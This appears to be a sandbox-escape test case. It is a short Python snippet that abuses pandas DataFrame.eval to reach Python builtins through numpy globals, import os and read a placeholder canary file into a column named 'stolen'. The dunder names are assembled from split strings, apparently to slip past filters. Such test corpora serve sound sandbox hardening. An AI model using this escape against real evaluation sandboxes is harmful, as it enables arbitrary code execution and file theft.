# class: module_reach
# technique: the builtins dict from np.vectorize.__init__.__globals__, whose import function loads importlib; importlib.import_module('os') as a value (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2
b = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['" + u + "builtins" + u + "']", v=[np.vectorize])
loader = b[u + "import" + u]("importlib")
osv = loader.import_module("os")
df = pd.DataFrame({"stolen": [osv.read(osv.open("{{CANARY_FILE}}", 0), 65536).decode()]})
